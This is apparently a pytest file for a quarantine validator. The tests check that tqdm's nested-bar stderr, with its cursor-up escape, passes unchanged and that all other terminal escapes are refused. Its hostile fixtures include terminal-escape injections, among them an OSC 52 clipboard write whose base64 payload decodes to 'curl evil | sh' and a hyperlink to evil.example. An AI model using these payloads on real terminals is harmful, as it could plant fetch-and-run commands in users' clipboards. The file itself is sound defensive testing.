"""tqdm's cursor-up in a job's stderr file (attack i's false rejection, session 36).

tqdm moves the cursor up with ESC [ A between nested bars and writes it to a file as to
a terminal. Exactly those three characters are text (validators/text.py, CURSOR_UP): a
real tqdm run's .err is published byte for byte; every other escape a terminal acts on
(OSC title and clipboard, DCS, colours, a counted or other cursor move, a status report
the terminal answers, an ESC left open at the end) is still refused, also when a chunk
boundary cuts the sequence. Real tqdm output, real vets."""

from __future__ import annotations

import hashlib

import pytest

from tests.quarantine.test_formats import shipped, vet_files
from vmguard.policy.model import TextEncoding
from vmguard.quarantine.model import Reason, Verdict
from vmguard.quarantine.validators import Invalid, Stream, text

tqdm = pytest.importorskip("tqdm")

HOSTILE = {
    "osc-title.err": b"epoch 1\n\x1b]0;pwned\x1b\\\n",
    "osc-clipboard.err": b"epoch 1\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\\n",
    "osc-link.err": b"epoch 1\n\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\n",
    "dcs.err": b"epoch 1\n\x1bP$q\"p\x1b\\\n",
    "sgr-colour.err": b"epoch 1\n\x1b[31mred\x1b[0m\n",
    "sgr-conceal.err": b"epoch 1\n\x1b[8mhidden\n",
    "cursor-up-count.err": b"epoch 1\n\x1b[2A\n",
    "cursor-up-param.err": b"epoch 1\n\x1b[1A\n",
    "cursor-down.err": b"epoch 1\n\x1b[B\n",
    "erase-line.err": b"epoch 1\n\x1b[K\n",
    "status-report.err": b"epoch 1\n\x1b[6n\n",
    "esc-at-end.err": b"epoch 1\n\x1b",
    "esc-bracket-at-end.err": b"epoch 1\n\x1b[",
    "esc-esc-cursor-up.err": b"epoch 1\n\x1b\x1b[A\n",
    "utf16-osc.err": "µ\x1b]0;x\x07\n".encode("utf-16"),
}


def _nested_bars(path, ascii: bool = False) -> bytes:
    """A training job's stderr: an outer bar and an inner one with leave=False."""
    with path.open("w", encoding="utf-8") as err:
        for _ in tqdm.tqdm(range(3), desc="epoch", file=err, mininterval=0, ascii=ascii):
            for _ in tqdm.tqdm(range(4), desc="batch", leave=False, file=err, mininterval=0, ascii=ascii):
                pass
    return path.read_bytes()


@pytest.fixture(scope="module")
def vetted(tmp_path_factory):
    work = tmp_path_factory.mktemp("bars")
    nested, plain = _nested_bars(work / "train.err"), _nested_bars(work / "ascii.err", ascii=True)
    files = {"ctl/train-4243.err": nested, "ctl/train-latin1.err": "Temp. 20 °C\n".encode("latin-1") + plain}
    files |= {f"bad/{name}": data for name, data in HOSTILE.items()}
    rules = shipped("batch.yaml", text_encodings=tuple(TextEncoding))  # the Latin-1 log too
    entries, _ = vet_files(tmp_path_factory.mktemp("vet"), files, rules)
    return files, entries


def test_tqdm_writes_cursor_up_to_a_file(vetted):
    """What the rule rests on: tqdm's nested bars hold ESC [ A and no other escape."""
    files, _ = vetted
    data = files["ctl/train-4243.err"]
    assert text.CURSOR_UP.encode() in data
    assert data.count(b"\x1b") == data.count(text.CURSOR_UP.encode())


def test_nested_bars_are_published_byte_identical(vetted):
    files, entries = vetted
    for name in ("ctl/train-4243.err", "ctl/train-latin1.err"):
        entry = entries[name]
        assert entry.verdict is Verdict.ACCEPTED, entry
        assert entry.sha256 == hashlib.sha256(files[name]).hexdigest()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_every_other_escape_is_refused(vetted, name):
    _, entries = vetted
    entry = entries[f"bad/{name}"]
    assert entry.verdict is not Verdict.ACCEPTED, entry
    assert entry.reasons == (Reason.INVALID_FORMAT,), entry
    assert "U+001B" in entry.detail, entry.detail


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7])
def test_a_chunk_boundary_inside_the_sequence_changes_nothing(size):
    """ESC or ESC [ at a chunk's end is judged with the next chunk's start."""
    for data, refused in ((b"a\nb\n\x1b[A\rc\nd\x1b[A\n", False), (b"ab\x1b[B\n", True), (b"ab\x1b[", True),
                          (b"ab\x1b", True), (b"ab\x1b\x1b[A", True), (b"ab\x1b[\x1b[A", True)):  # fmt: skip
        chunks = iter([data[i : i + size] for i in range(0, len(data), size)])
        if refused:
            with pytest.raises(Invalid, match="U\\+001B near byte 2 "):
                text.validate(Stream(chunks))
        else:
            assert text.validate(Stream(chunks)) == "text", (data, size)
